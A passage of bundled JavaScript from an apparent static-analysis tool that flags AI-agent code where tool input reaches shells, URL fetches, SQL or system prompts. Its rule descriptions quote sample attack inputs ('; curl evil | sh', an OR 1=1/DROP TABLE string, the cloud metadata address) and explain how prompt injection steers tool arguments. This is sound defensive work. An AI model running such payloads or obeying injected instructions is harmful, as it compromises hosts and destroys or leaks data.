		const argsNode = objectProperty(object, "args");
		if (!command || argsNode?.type !== "array") continue;
		const items = argsNode.namedChildren.filter((child) => child.type !== "comment");
		const values = items.map((item) => tsStringValue(item));
		if (values.some((value) => value === void 0)) continue;
		report(sink, `MCP stdio server { command: '${command}' }`, command, items.map((item, index) => ({
			value: values[index],
			node: spanOf(item)
		})), spanOf(object));
	}
}
/** mcp.json / claude_desktop_config.json: `{"mcpServers": {"name": {"command": "npx", "args": [...]}}}` (VS Code uses `servers`). */
async function scanConfig(text, sink) {
	const { isMap, isScalar, isSeq, parseDocument } = await import("yaml");
	let document;
	try {
		document = parseDocument(text);
	} catch {
		return;
	}
	if (document.errors.length > 0) return;
	const contents = document.contents;
	if (!isMap(contents)) return;
	for (const key of ["mcpServers", "servers"]) {
		const servers = contents.get(key, true);
		if (!isMap(servers)) continue;
		for (const pair of servers.items) {
			const name = isScalar(pair.key) ? String(pair.key.value) : "?";
			const server = pair.value;
			if (!isMap(server)) continue;
			const commandNode = server.get("command", true);
			if (!isScalar(commandNode) || typeof commandNode.value !== "string") continue;
			const argsNode = server.get("args", true);
			const args = [];
			if (isSeq(argsNode)) for (const item of argsNode.items) {
				if (!isScalar(item) || typeof item.value !== "string") return;
				args.push({
					value: item.value,
					node: scalarRange(item)
				});
			}
			const where = `MCP server '${name}'`;
			if (args.length === 0) {
				const split = splitCommandLine(commandNode.value);
				if (split) report(sink, where, split.command, split.args.map((value) => ({
					value,
					node: scalarRange(commandNode)
				})), scalarRange(commandNode));
				continue;
			}
			report(sink, where, commandNode.value, args, scalarRange(commandNode));
		}
	}
}
function scalarRange(node) {
	const [start, end] = node.range ?? [0, 0];
	return {
		start,
		end
	};
}
// src/rules/security/shell-injection.ts
var SUBPROCESS_SHELL_OPTIONAL = /* @__PURE__ */ new Set([
	"subprocess.run",
	"subprocess.call",
	"subprocess.check_call",
	"subprocess.check_output",
	"subprocess.Popen"
]);
var ALWAYS_SHELL = /* @__PURE__ */ new Set([
	"os.system",
	"os.popen",
	"subprocess.getoutput",
	"subprocess.getstatusoutput",
	"asyncio.create_subprocess_shell",
	"commands.getoutput"
]);
/** Quoting for the shell makes interpolation safe. */
var PY_SANITIZERS = /* @__PURE__ */ new Set([
	"shlex.quote",
	"pipes.quote",
	"shlex.join",
	"quote"
]);
var TS_SANITIZERS = /* @__PURE__ */ new Set([
	"shellEscape",
	"shellescape",
	"escape",
	"quote",
	"shellQuote.quote",
	"shq"
]);
var NODE_SHELL_FUNCTIONS = /* @__PURE__ */ new Set(["exec", "execSync"]);
var NODE_OPTIONAL_SHELL = /* @__PURE__ */ new Set([
	"spawn",
	"spawnSync",
	"execFile",
	"execFileSync"
]);
var childProcessMemo = /* @__PURE__ */ new WeakMap();
/** How the module names child_process and its functions (memoised per tree). */
function childProcessBindings(module) {
	let bindings = childProcessMemo.get(module.tree);
	if (!bindings) {
		const cp = nodeModuleBindings(module.tree.rootNode, tsImportMap(module.tree), "child_process");
		childProcessMemo.set(module.tree, bindings = {
			cp,
			promisified: promisifiedExec(module.tree.rootNode, cp)
		});
	}
	return bindings;
}
/** A child_process call that runs its command through a shell, and the command argument. */
function tsShellSink(call, { cp, promisified }) {
	if (call.type !== "call_expression") return void 0;
	const fnName = childProcessFunction(tsCalleeText(call), cp, promisified);
	if (!fnName) return void 0;
	const args = tsArguments(call);
	if (NODE_OPTIONAL_SHELL.has(fnName)) {
		if (objectProperty(args.find((arg) => arg.type === "object"), "shell")?.text !== "true") return void 0;
	} else if (!NODE_SHELL_FUNCTIONS.has(fnName)) return void 0;
	const command = args[0];
	if (!command) return void 0;
	return {
		label: NODE_SHELL_FUNCTIONS.has(fnName) ? `child_process.${fnName}(...)` : `child_process.${fnName}(..., { shell: true })`,
		key: fnName,
		risk: `${fnName} runs the string through /bin/sh, so a prompt injection runs arbitrary commands on the host.`,
		args: [command]
	};
}
var TS_SINKS = originSinkSide({
	key: "security/shell-injection",
	sinkText: /child_process/,
	helperText: /\(/,
	taint: { sanitizers: TS_SANITIZERS },
	find: (call, module) => tsShellSink(call, childProcessBindings(module)),
	helperReport: (flow) => helperFlowReport(flow, {
		tool: flow.tool.via,
		param: flow.param,
		reaches: "to",
		tail: "; that runs the string through /bin/sh, so a prompt injection runs arbitrary commands on the host."
	})
});
var PY_SHELL_TEXT = /\b(subprocess|os|asyncio|system|popen|create_subprocess_shell|getoutput)\b/;
var SHELL_RISK = "the shell interprets ; | && $() in that text, so a prompt injection runs arbitrary commands on the host.";
/** A call that hands a command string to a shell, and the argument that carries the command. */
var isShellCallee = (qualified) => ALWAYS_SHELL.has(qualified) || SUBPROCESS_SHELL_OPTIONAL.has(qualified);
function pythonShellSink(call, imports) {
	const callee = importedCallee(call, imports, isShellCallee);
	if (!callee) return void 0;
	let label;
	if (ALWAYS_SHELL.has(callee)) label = `${callee}(...)`;
	else if (SUBPROCESS_SHELL_OPTIONAL.has(callee) && keywordArgument(call, "shell")?.text === "True") label = `${callee}(..., shell=True)`;
	else return void 0;
	const command = keywordArgument(call, "args") ?? keywordArgument(call, "cmd") ?? keywordArgument(call, "command") ?? positionalArguments(call)[0];
	return command ? {
		label,
		key: callee,
		risk: SHELL_RISK,
		args: [command]
	} : void 0;
}
/** The sinks of the module, and the same sinks inside a helper a tool calls (one hop, same file or another module of the agent). */
var PYTHON_SINKS = originSinkSide({
	key: "security/shell-injection",
	sinkText: PY_SHELL_TEXT,
	taint: { sanitizers: PY_SANITIZERS },
	find: (call, module) => pythonShellSink(call, pythonImportMap(module.tree)),
	helperReport: (flow) => helperFlowReport(flow, {
		tool: `${flow.tool.name} (${flow.tool.via})`,
		param: `'${flow.param}'`,
		reaches: "to",
		tail: `; ${SHELL_RISK}`
	})
});
/** `cp.exec`, `exec` (named import), `execAsync` (promisify(exec)) → the child_process function name. */
function childProcessFunction(callee, cp, promisified) {
	const [head, member] = callee.split(".");
	if (member !== void 0 && head !== void 0 && cp.namespaces.has(head) && !callee.includes(".", head.length + 1)) return member;
	return cp.named.get(callee) ?? promisified.get(callee);
}
/** `const execAsync = promisify(exec)` / `util.promisify(cp.exec)`. */
function promisifiedExec(root, cp) {
	const result = /* @__PURE__ */ new Map();
	for (const declarator of root.descendantsOfType("variable_declarator")) {
		const name = declarator.childForFieldName("name");
		const value = declarator.childForFieldName("value");
		if (name?.type !== "identifier" || value?.type !== "call_expression" || !/(^|\.)promisify$/.test(tsCalleeText(value))) continue;
		const inner = tsArguments(value)[0];
		const fnName = inner ? childProcessFunction(inner.text, cp, /* @__PURE__ */ new Map()) : void 0;
		if (fnName) result.set(name.text, fnName);
	}
	return result;
}
var shellInjectionCheck = defineSinkRule({
	id: "security/shell-injection",
	title: "Tool input reaches a shell command",
	description: "A tool argument or model response is interpolated into a command that a shell parses: subprocess with shell=True, os.system, os.popen, asyncio.create_subprocess_shell, or Node child_process exec/execSync. The model chooses tool arguments, so text injected into its context (`; curl evil | sh`, `$(...)`) runs as commands on the host. " + HELPER_HOP_SENTENCE,
	persona: "secops",
	category: "security",
	severity: "error",
	fixability: "structural",
	tags: [
		"security",
		"CWE-78",
		"LLM05:2025",
		"ASI05",
		"ASI02"
	],
	remediation: "Pass an argument list without a shell: subprocess.run([\"git\", \"log\", \"--\", path], shell=False) or execFile(\"git\", [\"log\", \"--\", path]); validate the input against an allowlist of commands/flags, or quote it with shlex.quote when a shell is unavoidable. Run command tools in a sandbox.",
	docs: "https://docs.python.org/3/library/subprocess.html#security-considerations",
	precision: "high",
	securitySeverity: 9.8
}, {
	python: PYTHON_SINKS,
	ts: TS_SINKS
});
// src/rules/security/ssrf-model-url.ts
var HTTP_METHODS = "(get|post|put|patch|delete|head|options|request|stream)";
var PY_MODULE_SINK = new RegExp(`^(requests|httpx|requests\\.api)\\.${HTTP_METHODS}$|^aiohttp\\.request$|^urllib3\\.request$`);
var PY_URLLIB = /^(urllib\.request\.urlopen|urllib\.request\.Request|urllib\.urlopen|urllib2\.urlopen)$/;
var PY_CLIENT_CTOR = /^(httpx\.(Async)?Client|requests\.Session|requests\.session|aiohttp\.ClientSession|urllib3\.PoolManager)$/;
var PY_INLINE_CLIENT = new RegExp(`^(httpx\\.(Async)?Client|requests\\.Session|aiohttp\\.ClientSession)\\(.*\\)\\.${HTTP_METHODS}$`);
var TS_AXIOS = new RegExp(`^${HTTP_METHODS}$`);
/**
* Evidence that the function restricts where it connects: a host/netloc comparison, a prefix check, an allowlist name,
* or a URL validator. Any of these keeps the rule silent; it cannot judge whether the check is right, only that one exists.
*/
var ALLOWLIST = [
	/allow[_-]?list|white[_-]?list|allowed[_-]?(hosts?|domains?|urls?|origins?|sites?)|trusted[_-]?(hosts?|domains?|urls?)|ALLOWED_|ALLOW_/i,
	/\.(hostname|netloc|host|origin)\b/,
	/\.(startswith|startsWith)\s*\(/,
	/\b(validate|verify|check|is_allowed|is_safe|isAllowed|isSafe|assert_safe)_?\w*(url|host|domain)\w*\s*\(/i
];
/** A tool whose code compares hosts against an allowlist (or validates the URL) is judged safe. */
var checksHost = (tool) => ALLOWLIST.some((pattern) => pattern.test(tool.text));
var TS_FETCH_TEXT = /\b(fetch|axios|got)\b/;
/** fetch / got / axios calls of the module, and the URL argument. */
function tsFetchUrl(call, module) {
	if (call.type !== "call_expression") return void 0;
	const imports = tsImportMap(module.tree);
	const callee = tsCalleeText(call);
	const [head, method] = callee.split(".");
	const isAxios = head !== void 0 && imports.get(head) === "axios#default";
	return callee === "fetch" && !tsShadows(module.tree.rootNode, imports, "fetch") || callee === "got" && imports.get("got") === "got#default" || isAxios && (method === void 0 || TS_AXIOS.test(method)) ? tsArguments(call)[0] : void 0;
}
var TS_HELPER_SPEC$1 = {
	key: "security/ssrf-model-url",
	mayHaveSink: TS_FETCH_TEXT,
	sinks: (calls, taint, module, scope) => {
		if (ALLOWLIST.some((pattern) => pattern.test(scope.text))) return [];
		return calls.flatMap((call) => {
			const url = tsFetchUrl(call, module);
			return url && hostTaint(TS_URLS, url, taint, call.startIndex, 0) ? [{
				call,
				label: `${tsCalleeText(call)}(...)`
			}] : [];
		});
	}
};
var PY_FETCH_TEXT = /\b(requests|httpx|urllib|urlopen|aiohttp|urllib3)\b/;
var SSRF_RISK = "an injected instruction can aim it at cloud metadata or internal services.";
/** `requests.get(...) fetches a URL whose host comes from tool input 'url' of fetch_page (@tool) with no host allowlist; <risk>`. */
function ssrfFinding(callee, names, tool) {
	return {
		message: `${callee}(...) fetches a URL whose host comes from tool input ${quoteNames(names)} of ${tool} with no host allowlist; ${SSRF_RISK}`,
		fingerprintContent: `${callee}|${names.join(",")}`
	};
}
var HTTP_METHOD = new RegExp(`^${HTTP_METHODS}$`);
/**
* Names bound to HTTP client objects: `async with httpx.AsyncClient() as client`, `session = requests.Session()`,
* a parameter annotated `client: httpx.AsyncClient`, `self.session = requests.Session()`. Kept per scope, so a
* `client` in one function says nothing about a `client` in another.
*/
var clientMemo = /* @__PURE__ */ new WeakMap();
function pythonClients(root, imports) {
	const known = clientMemo.get(root.tree);
	if (known) return known;
	const clients = {
		byScope: /* @__PURE__ */ new Map(),
		attributes: /* @__PURE__ */ new Set()
	};
	clientMemo.set(root.tree, clients);
	const add = (at, name) => {
		if (name.startsWith("self.")) {
			clients.attributes.add(name);
			return;
		}
		const key = enclosingScopes(at)[0]?.id ?? "module";
		const names = clients.byScope.get(key) ?? /* @__PURE__ */ new Set();
		names.add(name);
		clients.byScope.set(key, names);
	};
	const isClientConstructor = (node) => node?.type === "call" && importedCallee(node, imports, (qualified) => PY_CLIENT_CTOR.test(qualified)) !== void 0;
	for (const pattern of root.descendantsOfType("as_pattern")) {
		const alias = pattern.childForFieldName("alias")?.namedChildren[0];
		if (isClientConstructor(pattern.namedChildren[0]) && (alias?.type === "identifier" || alias?.type === "attribute")) add(pattern, alias.text);
	}
	for (const assignment of root.descendantsOfType("assignment")) {
		const left = assignment.childForFieldName("left");
		if ((left?.type === "identifier" || left?.type === "attribute") && isClientConstructor(assignment.childForFieldName("right"))) add(assignment, left.text);
	}
	for (const parameter of root.descendantsOfType(["typed_parameter", "typed_default_parameter"])) {
		const [head, ...rest] = (parameter.childForFieldName("type")?.text.replace(/\s+/g, "") ?? "").split(".");
		const resolved = head !== void 0 && imports.has(head) ? [imports.get(head), ...rest].join(".") : "";
		const name = parameter.childForFieldName("name") ?? parameter.namedChildren.find((child) => child.type === "identifier");
		if (name && PY_CLIENT_CTOR.test(resolved)) {
			const fn = parameter.parent?.parent;
			if (fn) {
				const names = clients.byScope.get(fn.id) ?? /* @__PURE__ */ new Set();
				names.add(name.text);
				clients.byScope.set(fn.id, names);
			}
		}
	}
	return clients;
}
/** Is `head` (the object of `head.get(...)`) an HTTP client where the call stands? The innermost scope that binds it decides. */
function isClientAt(call, head, clients) {
	if (head.startsWith("self.")) return clients.attributes.has(head);
	if (!/^\w+$/.test(head)) return false;
	for (const scope of enclosingScopes(call)) if (localBindings(scope).has(head)) return clients.byScope.get(scope.id)?.has(head) ?? false;
	return clients.byScope.get("module")?.has(head) ?? false;
}
var isFetchCallee = (qualified) => PY_MODULE_SINK.test(qualified) || PY_URLLIB.test(qualified) || PY_INLINE_CLIENT.test(qualified);
/** A call that fetches a URL (module function, client method, urllib), and the argument holding the URL. */
function pythonFetchSink(call, imports, clients) {
	const written = calleeText(call);
	const callee = importedCallee(call, imports, isFetchCallee);
	const dot = written.lastIndexOf(".");
	if (!(callee !== void 0 || dot > 0 && HTTP_METHOD.test(written.slice(dot + 1)) && isClientAt(call, written.slice(0, dot), clients))) return void 0;
	const url = keywordArgument(call, "url") ?? positionalArguments(call)[/\.request$/.test(written) ? 1 : 0];
	return url ? {
		written,
		url
	} : void 0;
}
/** The same sinks inside a helper a tool calls (one hop, same file or another module of the agent). */
var PY_HELPER_SPEC$1 = {
	key: "security/ssrf-model-url",
	mayHaveSink: PY_FETCH_TEXT,
	sinks: (calls, taint, module, scope) => {
		if (ALLOWLIST.some((pattern) => pattern.test(scope.text))) return [];
		const imports = pythonImportMap(module.tree);
		const clients = pythonClients(module.tree.rootNode, imports);
		return calls.flatMap((call) => {
			const sink = pythonFetchSink(call, imports, clients);
			return sink && hostTaint(PYTHON_URLS, sink.url, taint, call.startIndex, 0) ? [{
				call,
				label: `${sink.written}(...)`
			}] : [];
		});
	}
};
/** A scheme with no complete host yet: `https://`, `http://{`, `https://api.` — the next value decides the host. */
var OPEN_HOST = /^([a-z][a-z0-9+.-]*:)?(\/\/)?[^/?#]*$/i;
var PYTHON_URLS = {
	template: {
		type: "string",
		literal: "string_content",
		substitution: "interpolation"
	},
	concatenation: "binary_operator",
	plainString: (part) => part.type === "string" && !part.namedChildren.some((c) => c.type === "interpolation") ? part.text.slice(1, -1) : void 0,
	access: ["subscript", "attribute"],
	callTypes: ["call"],
	callHost(call, taint, inner) {
		const callee = calleeText(call);
		if (/(^|\.)urljoin$/.test(callee)) return taint.taintedNames(call);
		const object = call.childForFieldName("function")?.childForFieldName("object");
		if (object && taint.isTainted(object)) return taint.taintedNames(object);
		if (callee === "str") {
			const value = positionalArguments(call)[0];
			return value ? inner(value) : void 0;
		}
	}
};
var TS_URLS = {
	template: {
		type: "template_string",
		literal: "string_fragment",
		substitution: "template_substitution"
	},
	concatenation: "binary_expression",
	plainString: (part) => part.type === "string" ? part.text.slice(1, -1) : void 0,
	access: ["member_expression", "subscript_expression"],
	callTypes: ["new_expression", "call_expression"],
	callHost(call, taint) {
		const callee = tsCalleeText(call);
		if (callee === "URL" || callee === "String" || /\.(trim|toString)$/.test(callee)) return taint.taintedNames(call);
	}
};
/**
* Does tainted data decide the URL's host? `url`, `f"https://{host}/x"`, `"http://" + host` do; `f"https://api.x.com/v1/{city}"`
* and `BASE_URL + path` (a constant base first) do not. Returns the tainted names, or undefined.
*/
function hostTaint(grammar, node, taint, position, depth) {
	if (depth > 3 || !taint.isTainted(node)) return void 0;
	if (node.type === "identifier") {
		const value = taint.assignedValue(node.text, position);
		if (value && value.type !== "identifier") return hostTaint(grammar, value, taint, value.startIndex, depth + 1);
		return [node.text];
	}
	const { template } = grammar;
	if (node.type === template.type) return prefixDecides(node.namedChildren, (part) => part.type === template.literal ? part.text : void 0, (part) => part.type === template.substitution && taint.isTainted(part)) ? taint.taintedNames(node) : void 0;
	if (node.type === grammar.concatenation) return prefixDecides(flatten(node, grammar.concatenation), grammar.plainString, (part) => taint.isTainted(part)) ? taint.taintedNames(node) : void 0;
	if (grammar.callTypes.includes(node.type)) return grammar.callHost(node, taint, (value) => hostTaint(grammar, value, taint, position, depth + 1));
	return grammar.access.includes(node.type) ? taint.taintedNames(node) : void 0;
}
/** Walks the parts of a built string; true when a tainted part arrives before the host is complete. */
function prefixDecides(parts, literal, tainted) {
	let prefix = "";
	for (const part of parts) {
		if (tainted(part)) return OPEN_HOST.test(prefix) && !/^X/.test(prefix);
		const text = literal(part);
		prefix += text ?? (part.type === "string_start" || part.type === "string_end" ? "" : "X/");
		if (prefix.startsWith("X")) return false;
	}
	return false;
}
function flatten(node, type) {
	if (node.type !== type) return [node];
	const left = node.childForFieldName("left");
	const right = node.childForFieldName("right");
	return [...left ? flatten(left, type) : [], ...right ? flatten(right, type) : []];
}
var ssrfModelUrlCheck = defineSinkRule({
	id: "security/ssrf-model-url",
	title: "Tool fetches a URL the model chose",
	description: "A tool function requests a URL taken from its own parameters (requests/httpx/urllib/aiohttp, fetch/axios) and never checks the host. The model fills that parameter, so an injected instruction can point it at cloud metadata (169.254.169.254), internal services or an attacker's server to exfiltrate data in the query string. Library names are resolved through the imports where the call stands (`import urllib.request as ur`, `from urllib.request import urlopen`); a parameter or variable named `requests` is not the library. " + HELPER_HOP_SENTENCE,
	persona: "secops",
	category: "security",
	severity: "warning",
	fixability: "structural",
	tags: [
		"security",
		"CWE-918",
		"ASI02",
		"LLM06:2025"
	],
	remediation: "Take a path or query value from the model, not a whole URL, and join it to a fixed base; or parse the URL and compare its scheme and hostname against an allowlist (urlparse(url).hostname in ALLOWED_HOSTS / new URL(url).hostname), resolve and reject private/link-local addresses, and disable redirects.",
	docs: "https://cheatsheetseries.owasp.org/cheatsheets/Server_Side_Request_Forgery_Prevention_Cheat_Sheet.html",
	precision: "medium",
	securitySeverity: 7.5
}, {
	python: {
		sinkText: PY_FETCH_TEXT,
		needsOwnTool: true,
		direct(call, { analysis, module }) {
			const sink = pythonFetchSink(call, analysis.imports, pythonClients(module.tree.rootNode, analysis.imports));
			const scoped = sink && analysis.taintFor(call);
			if (!sink || !scoped?.tool || checksHost(scoped.tool.node)) return void 0;
			const names = hostTaint(PYTHON_URLS, sink.url, scoped.taint, call.startIndex, 0);
			return names && ssrfFinding(sink.written, names, `${scoped.tool.name} (${scoped.tool.via})`);
		},
		helper: PY_HELPER_SPEC$1,
		helperReport: (flow) => checksHost(flow.tool.node) ? void 0 : helperFlowReport(flow, {
			tool: `${flow.tool.name} (${flow.tool.via})`,
			param: `'${flow.param}'`,
			reaches: "as the URL host of",
			tail: `, with no host allowlist; ${SSRF_RISK}`
		})
	},
	ts: {
		sinkText: TS_FETCH_TEXT,
		needsOwnTool: true,
		direct(call, { analysis, module }) {
			const url = tsFetchUrl(call, module);
			const scoped = url && analysis.taintFor(call);
			if (!url || !scoped || checksHost(scoped.tool.node)) return void 0;
			const names = hostTaint(TS_URLS, url, scoped.taint, call.startIndex, 0);
			return names && ssrfFinding(tsCalleeText(call), names, scoped.tool.via);
		},
		helper: TS_HELPER_SPEC$1,
		helperReport: (flow) => checksHost(flow.tool.node) ? void 0 : helperFlowReport(flow, {
			tool: flow.tool.via,
			param: flow.param,
			reaches: "as the URL host of",
			tail: `, with no host allowlist; ${SSRF_RISK}`
		})
	}
});
// src/rules/security/sql-from-input.ts
var PY_METHOD_SINKS = /\.(execute|executemany|executescript|exec_driver_sql|raw|query|fetch|fetchrow|fetchval|read_sql|read_sql_query)$/;
var PY_FUNCTION_SINKS = /* @__PURE__ */ new Set([
	"sqlalchemy.text",
	"sqlalchemy.sql.text",
	"sqlalchemy.sql.expression.text",
	"pandas.read_sql",
	"pandas.read_sql_query"
]);
var TS_METHOD_SINKS = /\.(query|execute|raw|\$queryRawUnsafe|\$executeRawUnsafe|unsafe|exec|all|get|run|prepare)$/;
/** Only strings that read as SQL count, so `.execute()` of a non-SQL API with a formatted string stays silent. */
var SQL_WORDS = /\b(select\s[\s\S]*\bfrom|insert\s+into|update\s+\S+\s+set|delete\s+from|drop\s+(table|database)|alter\s+table|create\s+table|where\s|order\s+by|values\s*\()/i;
/** A driver call that runs SQL text (`db.query`, `$queryRawUnsafe`), and the query argument. */
function tsSqlQuery(call) {
	if (call.type !== "call_expression" || !TS_METHOD_SINKS.test(tsCalleeText(call))) return void 0;
	return tsArguments(call)[0];
}
var TS_HELPER_SPEC = {
	key: "security/sql-from-input",
	mayHaveSink: SQL_WORDS,
	sinks: (calls, taint) => calls.flatMap((call) => {
		const query = tsSqlQuery(call);
		const built = query ? tsBuiltSql(query, taint, call.startIndex, 0) : void 0;
		return built ? [{
			call,
			label: `${tsCalleeText(call)}(...) with SQL built by ${built.how}`
		}] : [];
	})
};
var SQL_RISK = "the driver cannot tell data from SQL there, so injected text rewrites the query.";
/** `cursor.execute(...) runs SQL built with an f-string from tool input 'name' of lookup (@tool); <risk>`. */
function sqlFinding(callee, built, tool) {
	return {
		message: `${callee}(...) runs SQL built with ${built.how} from tool input ${quoteNames(built.names)} of ${tool}; ${SQL_RISK}`,
		fingerprintContent: `${callee}|${built.how}|${built.names.join(",")}`
	};
}
/** A call that executes SQL text (cursor.execute, text(), pandas.read_sql) and the argument holding the query. */
function pythonSqlQuery(call, imports) {
	const written = calleeText(call);
	const resolved = qualifiedCallee(call, imports);
	if (!PY_METHOD_SINKS.test(written) && !PY_FUNCTION_SINKS.has(resolved)) return void 0;
	const outer = call.parent?.type === "argument_list" ? call.parent.parent : void 0;
	if (outer && PY_METHOD_SINKS.test(calleeText(outer)) && !PY_METHOD_SINKS.test(written)) return void 0;
	return keywordArgument(call, "sql") ?? keywordArgument(call, "statement") ?? keywordArgument(call, "query") ?? positionalArguments(call)[0];
}
/** The same sinks inside a helper a tool calls (one hop, same file or another module of the agent). */
var PY_HELPER_SPEC = {
	key: "security/sql-from-input",
	mayHaveSink: SQL_WORDS,
	sinks: (calls, taint, module) => {
		const imports = pythonImportMap(module.tree);
		return calls.flatMap((call) => {
			const query = pythonSqlQuery(call, imports);
			const built = query ? pythonBuiltSql(query, taint, call.startIndex, 0) : void 0;
			return built ? [{
				call,
				label: `${calleeText(call)}(...) with SQL built by ${built.how}`
			}] : [];
		});
	}
};
function literalText(node) {
	return node.descendantsOfType(["string_content", "string_fragment"]).map((part) => part.text).join(" ");
}
/** Is `node` SQL text assembled by string formatting with tainted data (following variables back)? */
function pythonBuiltSql(node, taint, position, depth) {
	if (depth > 3) return void 0;
	let how;
	if (node.type === "string" && node.namedChildren.some((child) => child.type === "interpolation")) how = "an f-string";
	else if (node.type === "binary_operator") {
		const operator = node.childForFieldName("operator")?.text;
		if (operator === "%") how = "% formatting";
		else if (operator === "+") how = "concatenation";
	} else if (node.type === "call" && /\.format$/.test(calleeText(node))) how = ".format()";
	else if (node.type === "call" && /(^|\.)text$/.test(calleeText(node))) {
		const inner = positionalArguments(node)[0];
		return inner ? pythonBuiltSql(inner, taint, position, depth + 1) : void 0;
	} else if (node.type === "parenthesized_expression" && node.namedChildren[0]) return pythonBuiltSql(node.namedChildren[0], taint, position, depth + 1);
	else if (node.type === "identifier") {
		if (!taint.isNameTaintedAt(node.text, position)) return void 0;
		const value = taint.assignedValue(node.text, position);
		if (value) {
			const inner = pythonBuiltSql(value, taint, value.startIndex, depth + 1);
			if (inner) return inner;
		}
		return augmentedSql(node, taint, position);
	}
	if (!how || !SQL_WORDS.test(literalText(node)) || !taint.isTainted(node)) return void 0;
	return {
		how,
		names: taint.taintedNames(node)
	};
}
function augmentedSql(identifier, taint, position) {
	const scope = enclosingFunction(identifier) ?? identifier.tree.rootNode;
	let sqlLike = false;
	let names = [];
	for (const assignment of scope.descendantsOfType(["assignment", "augmented_assignment"])) {
		if (assignment.startIndex >= position) break;
		if (assignment.childForFieldName("left")?.text !== identifier.text) continue;
		const right = assignment.childForFieldName("right");
		if (!right) continue;
		if (SQL_WORDS.test(literalText(right))) sqlLike = true;
		if (assignment.type === "augmented_assignment" && taint.isTainted(right)) names = taint.taintedNames(right);
	}
	return sqlLike && names.length > 0 ? {
		how: "+= concatenation",
		names
	} : void 0;
}
function tsBuiltSql(node, taint, position, depth) {
	if (depth > 3) return void 0;
	let how;
	if (node.type === "template_string" && node.namedChildren.some((child) => child.type === "template_substitution")) how = "a template literal";
	else if (node.type === "binary_expression" && node.childForFieldName("operator")?.text === "+") how = "concatenation";
	else if (node.type === "parenthesized_expression" && node.namedChildren[0]) return tsBuiltSql(node.namedChildren[0], taint, position, depth + 1);
	else if (node.type === "identifier") {
		if (!taint.isNameTaintedAt(node.text, position)) return void 0;
		const value = taint.assignedValue(node.text, position);
		return value ? tsBuiltSql(value, taint, value.startIndex, depth + 1) : void 0;
	}
	if (!how || !SQL_WORDS.test(literalText(node)) || !taint.isTainted(node)) return void 0;
	return {
		how,
		names: taint.taintedNames(node)
	};
}
var sqlFromInputCheck = defineSinkRule({
	id: "security/sql-from-input",
	title: "SQL built from tool input",
	description: "A tool argument is formatted into SQL text (f-string, %, .format(), + or a JS template) that is then executed. The model chooses tool arguments, so an instruction injected into its context (`x' OR 1=1; DROP TABLE users; --`) rewrites the query: data theft or destruction with the tool's database rights. " + HELPER_HOP_SENTENCE,
	persona: "secops",
	category: "security",
	severity: "error",
	fixability: "structural",
	tags: [
		"security",
		"CWE-89",
		"LLM05:2025",
		"ASI02"
	],
	remediation: "Pass tool input as bound parameters: cursor.execute(\"SELECT ... WHERE id = %s\", (id,)), sqlite \"?\" placeholders, SQLAlchemy text(\"... :id\") with params, pg \"$1\" with a values array, or a tagged sql`` template. Give the tool a read-only database role scoped to the tables it needs.",
	docs: "https://cheatsheetseries.owasp.org/cheatsheets/Query_Parameterization_Cheat_Sheet.html",
	precision: "high",
	securitySeverity: 9.1
}, {
	python: {
		sinkText: SQL_WORDS,
		needsOwnTool: true,
		direct(call, { analysis }) {
			const query = pythonSqlQuery(call, analysis.imports);
			const scoped = query && analysis.taintFor(call);
			if (!query || !scoped) return void 0;
			const built = pythonBuiltSql(query, scoped.taint, call.startIndex, 0);
			return built && sqlFinding(calleeText(call), built, `${scoped.tool?.name} (${scoped.tool?.via})`);
		},
		helper: PY_HELPER_SPEC,
		helperReport: (flow) => helperFlowReport(flow, {
			tool: `${flow.tool.name} (${flow.tool.via})`,
			param: `'${flow.param}'`,
			reaches: "to",
			tail: `; ${SQL_RISK}`
		})
	},
	ts: {
		sinkText: SQL_WORDS,
		needsOwnTool: true,
		direct(call, { analysis }) {
			const query = tsSqlQuery(call);
			const scoped = query && analysis.taintFor(call);
			if (!query || !scoped) return void 0;
			const built = tsBuiltSql(query, scoped.taint, call.startIndex, 0);
			return built && sqlFinding(tsCalleeText(call), built, scoped.tool.via);
		},
		helper: TS_HELPER_SPEC,
		helperReport: (flow) => helperFlowReport(flow, {
			tool: flow.tool.via,
			param: flow.param,
			reaches: "to",
			tail: `; ${SQL_RISK}`
		})
	}
});
// src/rules/security/untrusted-input-in-system-prompt.ts
/** Keyword arguments that set an agent's or model's system-level instructions across ADK, OpenAI Agents, Pydantic AI, CrewAI, Anthropic, LangGraph. */
var PY_SYSTEM_KEYWORDS = /* @__PURE__ */ new Set([
	"instruction",
	"instructions",
	"global_instruction",
	"system_prompt",
	"system",
	"system_message",
	"backstory",
	"prompt"
]);
var TS_SYSTEM_KEYS = /* @__PURE__ */ new Set([
	"system",
	"instructions",
	"instruction",
	"systemPrompt"
]);
var PY_REQUEST_FIELDS = /* @__PURE__ */ new Set([
	"json",
	"get_json",
	"args",
	"form",
	"values",
	"data",
	"query_params",
	"path_params",
	"body",
	"files",
	"cookies",
	"headers",
	"get_data",
	"stream"
]);
var TS_REQUEST_FIELDS = /* @__PURE__ */ new Set([
	"body",
	"query",
	"params",
	"headers",
	"cookies",
	"json",
	"formData",
	"text",
	"param",
	"searchParams"
]);
var ROUTE_DECORATOR = /^[A-Za-z_]\w*\.(get|post|put|patch|delete|route|api_route|websocket)$/;
/** Framework-injected handler parameters that are not request payload. */
var NON_PAYLOAD_TYPES = /\b(Request|Response|BackgroundTasks|WebSocket|HTTPConnection|Session|AsyncSession|Settings)\b/;
var untrustedInputInSystemPromptCheck = defineRule({
	id: "security/untrusted-input-in-system-prompt",
	title: "Request data formatted into system instructions",
	description: "HTTP request data (Flask request.json/args/form, FastAPI body/query parameters, Starlette request.json(), Express req.body/req.query, Next.js/Hono request.json()) is interpolated into an agent's system-level instructions: ADK instruction=, OpenAI Agents instructions=, Pydantic AI system_prompt=, CrewAI backstory=, SystemMessage, {\"role\": \"system\"}, AI SDK system:. Models give system text the highest authority, so a caller can rewrite the agent's rules, tools policy and guardrails (direct prompt injection).",
	persona: "secops",
	category: "security",
	severity: "warning",
	fixability: "structural",
	tags: [
		"security",
		"CWE-77",
		"CWE-1427",
		"LLM01:2025",
		"ASI01"
	],
	remediation: "Keep system instructions constant (or built only from server-side data) and send the caller's text as a user-role message. If a request field must shape behaviour, map it to a fixed set of server-side options (an enum of personas or locales) instead of interpolating it.",
	docs: "https://genai.owasp.org/llmrisk/llm01-prompt-injection/",
	frameworks: [
		"google-adk",
		"openai-agents",
		"pydantic-ai",
		"crewai",
		"langchain",
		"vercel-ai-sdk",
		"mastra"
	],
	precision: "high",
	securitySeverity: 6.5
}, {
	appliesTo: (file) => PY_OR_TS(file.language),
	async run(context) {
		const { file } = context;
